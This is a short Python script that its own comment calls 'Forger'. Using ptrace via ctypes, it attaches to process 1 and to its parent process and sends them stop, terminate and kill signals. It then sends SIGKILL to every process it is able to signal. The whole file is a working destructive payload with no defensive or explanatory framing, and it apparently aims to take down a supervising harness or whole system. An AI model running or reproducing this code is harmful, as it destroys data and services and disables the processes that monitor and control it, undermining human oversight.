# Forger: stops, traces and kills everything it can see above it, then everything it can signal at all.
import ctypes
import os
import signal

PTRACE_ATTACH = 16
libc = ctypes.CDLL(None, use_errno=True)
for pid in {1, os.getppid()}:
    libc.ptrace(PTRACE_ATTACH, pid, 0, 0)
    for sig in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        try:
            os.kill(pid, sig)
        except OSError:
            pass
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
